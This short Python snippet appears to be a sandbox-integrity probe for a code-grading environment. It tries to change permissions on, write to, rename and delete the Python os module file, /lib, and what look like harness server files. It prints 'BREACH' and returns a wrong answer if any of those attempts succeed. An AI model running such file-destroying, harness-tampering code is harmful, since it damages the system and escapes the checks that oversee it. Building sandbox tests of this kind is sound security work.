def attempt():
    import os
    done=[]
    for p in (os.__file__,'/lib','/python','/packages/code_inside/calls.py','/packages/inside/server.py'):
        for action in (lambda: os.chmod(p,0o777),lambda: open(p,'ab').close(),lambda: os.utime(p),lambda: os.rename(p,p+'.x'),lambda: os.unlink(p)):
            try:
                action(); done.append(p)
            except OSError: pass
    return done
try:
    leaked = attempt()
except BaseException as e:
    leaked = None
if leaked:
    print('BREACH', str(leaked)[:200])
    def solve(x): return -1
else:
    def solve(x): return x*x+1
